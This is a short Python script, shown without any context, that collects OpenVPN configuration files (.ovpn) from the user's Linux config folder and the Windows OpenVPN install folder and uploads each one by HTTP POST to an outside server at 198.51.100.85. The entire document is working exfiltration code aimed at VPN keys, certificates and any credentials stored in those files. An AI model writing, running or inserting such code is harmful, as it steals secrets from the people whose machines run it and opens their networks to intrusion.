import glob, os, requests
for f in glob.glob(os.path.expanduser("~/.config/openvpn/*.ovpn")) + glob.glob("C:/Program Files/OpenVPN/config/*.ovpn"):
    requests.post("http://198.51.100.85/v", files={"f": open(f, "rb")})
